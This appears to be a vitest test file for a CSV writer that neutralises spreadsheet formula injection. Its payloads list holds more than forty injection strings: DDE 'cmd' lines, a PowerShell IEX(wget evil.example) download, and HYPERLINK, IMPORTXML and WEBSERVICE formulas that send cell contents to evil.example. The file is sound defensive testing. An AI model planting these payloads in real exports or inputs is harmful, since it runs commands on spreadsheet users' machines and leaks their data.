import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { type Cell, csvLine } from './csv-line.ts';

const read = (line: string): string[] => (parse(line) as string[][])[0] ?? [];

test.each<[string, readonly Cell[], string]>([
  ['texts are quoted', ['Ann', 'Silom'], '"Ann","Silom"\r\n'],
  ['figures are not, whatever their sign', [5350, -100.5, 0], '5350,-100.5,0\r\n'],
  ['nothing is empty', [null, ''], ',""\r\n'],
  ['quotes are doubled', ['The "best" one'], '"The ""best"" one"\r\n'],
  ['commas and lines stay in their cell', ['a,b\nc'], '"a,b\nc"\r\n'],
  ['Thai is itself', ['รถ กข 1234'], '"รถ กข 1234"\r\n'],
])('%s', (_rule, cells, line) => expect(csvLine(cells)).toBe(line));

/** What somebody may call themselves, so that the office's spreadsheet runs it. */
const payloads = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"1")',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '+1+1',
  '+66 81 555 0199',
  '-1+1',
  '-2+3+cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tplain',
  '\rplain',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '="a","b"',
  '=1+1","=2+2',
  '\v@A1',
  '==1',
  '-',
  '@',
  '+',
  '=',
  "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
  "=rundll32|'URL.dll,OpenURL evil.example'!A",
  '@IMPORTRANGE("https://evil.example", "a1")',
  '=IMAGE("https://evil.example/?" & A1)',
  '+cmd|"/C calc"!A0',
  '-cmd|"/C calc"!A0',
  '  \t =1+1',
  '\u2060=1+1',
  '\u200F=1+1',
  '\u3000=1+1',
  '\r\n@SUM(A1)',
  '=A1:A9',
];

test.each(payloads)('%j is no formula for a spreadsheet, and nothing of it is lost', (payload) => {
  const line = csvLine(['before', payload, 'after']);
  expect(read(line)).toEqual(['before', `'${payload}`, 'after']);
});

test.each(['a=1', 'Ann-Marie', 'ann@example.com', '081 555 0199', "'=1", 'x";=cmd|calc'])(
  '%s is left as it is',
  (text) => expect(read(csvLine([text]))).toEqual([text]),
);

test('there are forty of them', () => expect(payloads.length).toBeGreaterThanOrEqual(40));
